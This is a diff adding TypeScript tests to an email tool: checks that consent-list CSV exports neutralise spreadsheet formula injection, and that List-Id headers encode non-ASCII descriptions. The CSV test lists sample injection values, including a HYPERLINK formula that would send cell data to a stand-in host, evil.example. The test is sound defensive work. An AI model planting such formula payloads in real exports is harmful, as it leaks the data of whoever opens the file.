@@ -14,8 +14,10 @@ import { simpleParser } from 'mailparser';
 import { loadConfig } from '../config/load.js';
 import { createMailer, type Mailer } from '../mailer.js';
 import { startSmtpServer, type TestServer } from '../../test/helpers/smtp-server.js';
-import { parseUnsubscribeMailto } from './bulk.js';
+import { composeMail } from '../message/compose.js';
+import { bulkMail, parseUnsubscribeMailto } from './bulk.js';
 import { parseConsentCsv, subscriptionsToCsv } from './csv.js';
+import type { Subscription } from './store.js';
 
 const work = mkdtempSync(join(tmpdir(), 'sendwell-consent-'));
 const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
@@ -203,5 +205,41 @@ describe('consent and list mail', () => {
     await assert.rejects(m.sendToList('newsletter', { subject: 's', text: 't' }), /needs http\.public_url/);
     await m.close();
     await srv2.close();
+  });
+});
+
+describe('consent CSV', () => {
+  const sub = (over: Partial<Subscription>): Subscription => ({
+    id: 1, list: 'news', address: 'a@example.test', addressInput: 'a@example.test', status: 'confirmed', source: 'form:news', channel: 'form', consentText: null,
+    signupAt: Date.UTC(2026, 0, 2), signupIp: null, signupUserAgent: null, confirmSentAt: null, confirmedAt: Date.UTC(2026, 0, 2), confirmIp: null,
+    confirmUserAgent: null, confirmMethod: 'post-button', unsubscribedAt: null, unsubscribeMethod: null, unsubToken: 'abcdefghijklmnopqrstuvwxyz', ...over,
+  });
+
+  it('export: cells a spreadsheet would run as a formula are defused, and import gives them back', () => {
+    // A visitor's User-Agent, an API source or even an address can start with = + - @.
+    const evil = ['=HYPERLINK("https://evil.example/?"&A2,"x")', '+1+1', '-2+3', '@SUM(1)', "'=already quoted", '\t=tab'];
+    const subs = [
+      sub({ signupUserAgent: evil[0]!, source: evil[1]!, consentText: evil[2]!, confirmUserAgent: evil[3]!, confirmIp: evil[4]!, signupIp: evil[5]! }),
+      sub({ id: 2, address: '-bob@example.test', addressInput: '-bob@example.test' }),
+    ];
+    const csv = subscriptionsToCsv(subs);
+    for (const line of csv.split('\n').slice(1)) {
+      for (const cell of line.split(',')) assert.doesNotMatch(cell, /^"?[=+\-@\t\r]/, `cell ${cell} of ${line}`);
+    }
+    const back = parseConsentCsv(csv, 'export.csv');
+    assert.deepEqual([back[0]!.signup_user_agent, back[0]!.source, back[0]!.consent_text, back[0]!.confirm_user_agent, back[0]!.confirm_ip], evil.slice(0, 5));
+    assert.equal(back[1]!.email, '-bob@example.test');
+  });
+});
+
+describe('list mail headers', () => {
+  it('List-Id keeps its <id> readable when the description is not ASCII (RFC 2919)', async () => {
+    const list = { name: 'news', reason: 'You receive this because you subscribed.', doubleOptIn: true, description: 'Institut für Informatik — Neuigkeiten aus Lehre, Forschung und dem Institutsleben', createdAt: 0 };
+    const one = bulkMail({ subject: 'Hallo', text: 'Text' }, { address: 'a@example.test', unsubToken: 'abcdefghijklmnopqrstuvwxyz' } as Subscription, { list, publicUrl: 'https://m.example.test', from: 'News <news@example.test>' });
+    const { raw } = await composeMail({ ...one, from: 'News <news@example.test>' });
+    const id = headerOf(raw, 'List-Id')!;
+    assert.match(id, /^(=\?UTF-8\?B\?[A-Za-z0-9+/=]+\?= ?)+ <news\.example\.test>$/, id);
+    const words = id.slice(0, id.lastIndexOf(' <')).split(' ').map((w) => Buffer.from(/^=\?UTF-8\?B\?(.*)\?=$/.exec(w)![1]!, 'base64'));
+    assert.equal(Buffer.concat(words).toString('utf8'), list.description);
   });
 });
